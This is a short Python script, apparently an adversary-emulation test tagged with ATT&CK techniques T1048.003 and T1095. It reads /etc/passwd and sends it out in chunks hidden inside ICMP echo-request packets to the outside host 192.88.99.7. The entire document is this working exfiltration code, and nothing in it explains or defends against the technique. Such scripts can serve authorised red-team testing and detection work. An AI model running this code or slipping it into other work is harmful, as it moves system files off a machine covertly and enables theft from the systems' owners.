#!/usr/bin/env python3
# title: A file goes out in pings
# technique: T1048.003 T1095
# needs: python3

import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
data = open("/etc/passwd", "rb").read()
for at in range(0, len(data), 64):
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 7, at) + data[at:at + 64], ("192.88.99.7", 0))
